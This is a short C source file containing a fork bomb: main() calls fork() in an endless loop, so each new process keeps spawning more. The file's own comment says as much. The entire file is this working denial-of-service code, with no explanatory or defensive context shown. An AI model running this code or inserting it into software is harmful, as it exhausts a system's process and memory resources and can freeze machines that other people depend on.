/* Each process makes more of them. */
#include "flood.h"

int main(void)
{
    for (;;)
        (void)fork();
}
